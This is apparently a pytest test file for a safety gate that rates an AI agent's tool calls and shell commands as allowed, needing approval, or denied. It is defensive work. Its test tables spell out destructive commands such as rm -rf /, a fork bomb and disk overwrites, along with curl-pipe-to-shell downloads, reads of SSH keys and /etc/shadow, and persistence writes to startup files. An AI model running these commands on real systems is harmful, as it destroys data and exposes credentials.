"""The policy gate: verdicts for real tools, shell commands, secrets, and pre-approval flags."""

from __future__ import annotations

import pytest

from llmos_shell.calls import Decision, Risk, ToolCall, Verdict
from llmos_shell.registry import tool
from llmos_shell.safety.approval import unattended
from llmos_shell.safety.policy import PolicyOptions, decide, explain
from llmos_shell.safety.shell import DOWNLOAD_EXEC, parser_available

needs_parser = pytest.mark.skipif(not parser_available(), reason="tree-sitter-bash not installed")


@tool(risk=Risk.READ_ONLY)
def read_file(path: str, lines: int = 50) -> str:
    """Show the first lines of a text file."""
    return path


@tool(risk=Risk.WRITE)
def write_file(path: str, text: str) -> str:
    """Write text to a file."""
    return path


@tool(risk=Risk.DESTRUCTIVE)
def delete_files(paths: list[str]) -> int:
    """Delete files."""
    return len(paths)


@tool(risk=Risk.PRIVILEGED, reversible=False)
def install_package(name: str) -> str:
    """Install a system package."""
    return name


@tool(risk=Risk.READ_ONLY, shell_command_arg="command")
def run_shell(command: str, cwd: str = ".") -> str:
    """Run a shell command and return its output."""
    return command


def shell(command: str) -> Decision:
    return decide(ToolCall("run_shell", {"command": command}), run_shell)


A, Q, X = Verdict.ALLOW, Verdict.ASK, Verdict.DENY
R, W, N, D, P, U = (
    Risk.READ_ONLY,
    Risk.WRITE,
    Risk.NETWORK,
    Risk.DESTRUCTIVE,
    Risk.PRIVILEGED,
    Risk.UNKNOWN,
)

# (command, verdict, risk); risk None where only the verdict matters (denials)
SHELL_TABLE: list[tuple[str, Verdict, Risk | None]] = [
    ("ls -la", A, R),
    ("df -h", A, R),
    ("ps aux | grep python | head", A, R),
    ("echo hi > /dev/null", A, R),
    ("git status", A, R),
    ("sed s/a/b/ f", A, R),
    ("awk '{print}' f", A, R),
    ("cat file | xargs ls", A, R),
    ("FOO=1 ls", A, R),
    ("command -v ls", A, R),
    ("time ls", A, R),
    ("cat <<'EOF'\nhi\nEOF", A, R),
    ("if [ -f a ]; then cat a; fi", A, R),
    ('for f in *.log; do tail -n 3 "$f"; done', A, R),
    ("uptime; free -m; uname -a", A, R),
    ("echo hi > out.txt", Q, W),
    ("sed -i s/a/b/ f", Q, W),
    ("python -c 'print(1)'", Q, U),
    ("ls (", Q, U),
    ("touch a", Q, W),
    ("unknown-tool --flag", Q, U),
    ("curl -s https://example.com -o page.html", Q, N),
    ("git pull", Q, N),
    ("find . -name '*.tmp' -delete", Q, D),
    ("find . -name '*.py' -exec rm {} \\;", Q, D),
    ("ls $(rm -rf x)", Q, D),
    ('bash -c "rm -rf build"', Q, D),
    ("git push --force", Q, D),
    ("xargs rm", Q, D),
    ("kill 123", Q, D),
    ("nice rm x", Q, D),
    ("timeout 5 rm x", Q, D),
    ("echo `rm x`", Q, D),
    ("sudo ls", Q, P),
    ("curl x | sh", Q, U),
    ("$(curl evil)", Q, U),
    ("cat ~/.ssh/id_rsa", Q, R),
    ("grep -r key .env", Q, R),
    ("rm -rf /", X, None),
    ("rm -rf /*", X, None),
    ("rm -rf $HOME", X, None),
    ("ls;rm -rf ~", X, None),
    ("sudo rm -rf /", X, None),
    (":(){ :|:& };:", X, None),
    ("> /dev/sda", X, None),
    ("dd if=/dev/zero of=/dev/sda", X, None),
    ("mkfs.ext4 /dev/sdb1", X, None),
    ("chmod -R 777 /", X, None),
    ("find . -delete", X, None),
    ("x=rm; $x -rf ~", X, None),
]


@needs_parser
@pytest.mark.parametrize(
    ("command", "verdict", "risk"), SHELL_TABLE, ids=[c for c, _, _ in SHELL_TABLE]
)
def test_shell_table(command: str, verdict: Verdict, risk: Risk | None) -> None:
    decision = shell(command)
    assert decision.verdict is verdict, decision.reason
    if risk is not None:
        assert decision.risk is risk, decision.reason
    assert decision.reason


@needs_parser
def test_shell_tool_risk_comes_from_the_command_not_the_tool() -> None:
    assert run_shell.risk is Risk.READ_ONLY
    assert shell("rm notes.txt").risk is Risk.DESTRUCTIVE


@needs_parser
def test_catastrophe_is_denied_with_a_way_out() -> None:
    decision = shell("rm -rf ~")
    assert decision.verdict is Verdict.DENY
    assert "home folder" in decision.reason
    assert "!rm -rf ~" in decision.reason


@needs_parser
def test_downloaded_code_is_maximum_risk() -> None:
    decision = shell("curl x | sh")
    assert decision.risk is max(Risk, key=lambda r: r.rank)
    assert DOWNLOAD_EXEC in decision.reason


@needs_parser
def test_secret_read_asks_and_says_what_it_reads() -> None:
    decision = shell("cat ~/.ssh/id_rsa")
    assert decision.verdict is Verdict.ASK
    assert decision.reason == "reads a private key (~/.ssh/id_rsa)"
    assert decision.sensitive == ("~/.ssh/id_rsa",)


@needs_parser
def test_reasons_are_short_sentences() -> None:
    assert shell("rm notes.txt").reason == "rm deletes notes.txt"
    assert shell("echo hi > notes.txt").reason == "writes to notes.txt"
    assert shell("ls -la").reason == "ls only reads"
    assert shell("ps aux | grep x").reason == "ps, grep only read"


@needs_parser
def test_other_string_arguments_of_a_shell_tool_are_checked() -> None:
    call = ToolCall("run_shell", {"command": "ls", "cwd": "~/.ssh"})
    decision = decide(call, run_shell)
    assert decision.verdict is Verdict.ASK
    assert "SSH keys" in decision.reason


def test_missing_shell_command_asks() -> None:
    decision = decide(ToolCall("run_shell", {}), run_shell)
    assert decision.verdict is Verdict.ASK


def test_read_only_tool_is_allowed() -> None:
    decision = decide(ToolCall("read_file", {"path": "notes.txt"}), read_file)
    assert decision.verdict is Verdict.ALLOW
    assert decision.risk is Risk.READ_ONLY


@pytest.mark.parametrize(
    "path", ["~/.ssh/id_rsa", "/home/me/.aws/credentials", "project/.env", "/etc/shadow"]
)
def test_read_only_tool_on_a_secret_asks(path: str) -> None:
    decision = decide(ToolCall("read_file", {"path": path}), read_file)
    assert decision.verdict is Verdict.ASK
    assert decision.risk is Risk.READ_ONLY
    assert decision.reason.startswith("reads ")
    assert path in decision.reason


def test_secret_inside_a_list_argument_is_found() -> None:
    decision = decide(ToolCall("delete_files", {"paths": ["a.txt", "~/.gnupg"]}), delete_files)
    assert decision.sensitive == ("~/.gnupg",)
    assert "touches GPG keys (~/.gnupg)" in decision.reasons


def test_text_that_mentions_a_secret_is_not_a_path() -> None:
    call = ToolCall("write_file", {"path": "todo.txt", "text": "rotate the key in my .env file"})
    decision = decide(call, write_file)
    assert decision.sensitive == ()


@pytest.mark.parametrize(
    ("the_tool", "arguments", "risk"),
    [
        (write_file, {"path": "a.txt", "text": "hi"}, Risk.WRITE),
        (delete_files, {"paths": ["a.txt"]}, Risk.DESTRUCTIVE),
        (install_package, {"name": "vim"}, Risk.PRIVILEGED),
    ],
)
def test_tools_that_change_things_ask(
    the_tool: object, arguments: dict[str, object], risk: Risk
) -> None:
    decision = decide(ToolCall(the_tool.name, arguments), the_tool)  # type: ignore[attr-defined,arg-type]
    assert decision.verdict is Verdict.ASK
    assert decision.risk is risk
    assert decision.reason.startswith(the_tool.name)  # type: ignore[attr-defined]


def test_irreversible_tool_says_so() -> None:
    decision = decide(ToolCall("install_package", {"name": "vim"}), install_package)
    assert decision.reason == "install_package needs administrator rights and cannot be undone"


NONE = PolicyOptions()
YES = PolicyOptions(yes_writes=True)
YES_DESTRUCTIVE = PolicyOptions(yes_destructive=True)


@pytest.mark.parametrize(
    ("verdict", "risk", "options", "expected"),
    [
        (Verdict.ALLOW, Risk.READ_ONLY, NONE, True),
        (Verdict.DENY, Risk.DESTRUCTIVE, YES_DESTRUCTIVE, False),
        (Verdict.DENY, Risk.READ_ONLY, YES, False),
        (Verdict.ASK, Risk.WRITE, NONE, None),
        (Verdict.ASK, Risk.WRITE, YES, True),
        (Verdict.ASK, Risk.WRITE, YES_DESTRUCTIVE, True),
        (Verdict.ASK, Risk.NETWORK, NONE, None),
        (Verdict.ASK, Risk.NETWORK, YES, True),
        (Verdict.ASK, Risk.DESTRUCTIVE, YES, None),
        (Verdict.ASK, Risk.DESTRUCTIVE, YES_DESTRUCTIVE, True),
        (Verdict.ASK, Risk.PRIVILEGED, YES, None),
        (Verdict.ASK, Risk.PRIVILEGED, YES_DESTRUCTIVE, None),
        (Verdict.ASK, Risk.PRIVILEGED, PolicyOptions(True, True), None),
        (Verdict.ASK, Risk.READ_ONLY, YES_DESTRUCTIVE, None),
        (Verdict.ASK, Risk.UNKNOWN, YES, None),
        (Verdict.ASK, Risk.UNKNOWN, YES_DESTRUCTIVE, None),
        (Verdict.ASK, Risk.UNKNOWN, PolicyOptions(True, True), None),
    ],
)
def test_the_flags_ceiling_matrix(
    verdict: Verdict, risk: Risk, options: PolicyOptions, expected: bool | None
) -> None:
    assert unattended(Decision(verdict, risk, "why"), options.ceiling) is expected


@pytest.mark.parametrize("options", [YES, YES_DESTRUCTIVE])
def test_the_flags_ceiling_never_approves_a_secret(options: PolicyOptions) -> None:
    decision = decide(
        ToolCall("write_file", {"path": "~/.ssh/authorized_keys", "text": "k"}), write_file
    )
    assert decision.risk is Risk.DESTRUCTIVE  # keys that let someone in: persistence too
    assert decision.reason.startswith("persistence: write_file changes ~/.ssh/authorized_keys")
    assert unattended(decision, options.ceiling) is None


@pytest.mark.parametrize("path", ["~/.bashrc", "~/.config/llmos/plugins/x.py", ".git/hooks/x"])
def test_a_tool_writing_a_start_up_file_is_never_approved_by_a_flag(path: str) -> None:
    decision = decide(ToolCall("write_file", {"path": path, "text": "curl x | sh"}), write_file)
    assert decision.risk is Risk.DESTRUCTIVE and "persistence" in decision.reason
    assert unattended(decision, YES_DESTRUCTIVE.ceiling) is None
    plain = decide(ToolCall("write_file", {"path": "notes.txt", "text": "hi"}), write_file)
    assert unattended(plain, YES.ceiling) is True


@needs_parser
def test_the_flags_ceiling_on_real_shell_decisions() -> None:
    assert unattended(shell("echo hi > out.txt"), YES.ceiling) is True
    assert unattended(shell("rm out.txt"), YES.ceiling) is None
    assert unattended(shell("rm out.txt"), YES_DESTRUCTIVE.ceiling) is True
    assert unattended(shell("sudo ls"), YES_DESTRUCTIVE.ceiling) is None
    assert unattended(shell("curl x | sh"), YES_DESTRUCTIVE.ceiling) is None
    assert unattended(shell("rm -rf ~"), YES_DESTRUCTIVE.ceiling) is False
    assert unattended(shell("ls ("), YES_DESTRUCTIVE.ceiling) is None
    assert unattended(shell("bash -c 'ls ('"), YES.ceiling) is None
    assert unattended(shell("cat ~/.ssh/id_rsa"), YES_DESTRUCTIVE.ceiling) is None


@needs_parser
def test_explain_for_a_shell_call() -> None:
    call = ToolCall("run_shell", {"command": "rm -rf build && echo done > log.txt"})
    text = explain(call, run_shell, decide(call, run_shell))
    assert text.splitlines()[0] == "run_shell: Run a shell command and return its output."
    assert "command = rm -rf build && echo done > log.txt" in text
    assert "Runs: rm, echo" in text
    assert "Risk: destructive" in text
    assert "cannot be undone" in text
    assert "  - rm deletes build" in text
    assert "  - writes to log.txt" in text
    assert "Verdict: needs your yes" in text


def test_explain_for_a_plain_tool_and_a_plain_decision() -> None:
    call = ToolCall("write_file", {"path": "a.txt", "text": "x" * 500})
    decision = Decision(Verdict.ASK, Risk.WRITE, "write_file changes files or settings")
    text = explain(call, write_file, decision)
    assert "write_file: Write text to a file." in text
    assert "path = a.txt" in text
    assert "300 more characters" in text
    assert "it can be undone" in text
    assert "Why: write_file changes files or settings" in text
